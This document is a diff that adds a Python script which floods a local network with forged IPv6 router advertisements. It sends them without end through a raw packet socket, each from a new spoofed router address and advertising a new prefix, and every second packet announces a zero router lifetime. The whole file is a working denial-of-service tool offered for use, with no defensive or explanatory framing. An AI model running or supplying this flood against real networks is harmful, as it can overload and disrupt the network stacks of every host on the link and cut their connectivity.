@@ -1,0 +1,34 @@
+"""Router advertisements without end, each of another router and for another prefix: advertisement_flood.py INTERFACE."""
+
+import itertools
+import socket
+import struct
+import sys
+
+
+def checksum(source, destination, message):
+    data = source + destination + struct.pack('>II', len(message), 58) + message
+    total = sum(struct.unpack('>%dH' % (len(data) // 2), data))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+
+ALL_NODES = socket.inet_pton(socket.AF_INET6, 'ff02::1')
+link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+link.bind((sys.argv[1], 0x86dd))
+for number in itertools.count():
+    router = socket.inet_pton(socket.AF_INET6, 'fe80::1:%x' % (number >> 1 & 0xffff))
+    # Every second one says goodbye.
+    lifetime = 0 if number & 1 else 1800
+    prefix = struct.pack('>BBBBIII', 3, 4, 64, 0xc0, 2, 2, 0) + struct.pack('>HIH', 0xfd00, number, 0) + bytes(8)
+    message = struct.pack('>BBHBBHII', 134, 0, 0, 64, 8, lifetime, 0, 0) + prefix
+    message = message[:2] + struct.pack('>H', checksum(router, ALL_NODES, message)) + message[4:]
+    header = struct.pack('>IHBB', 6 << 28, len(message), 58, 255) + router + ALL_NODES
+    try:
+        link.send(bytes.fromhex('333300000001 02dd00000001 86dd') + header + message)
+    except OSError:
+        # The queue is full.
+        continue
+    if number == 2000:
+        print('flooding', flush=True)
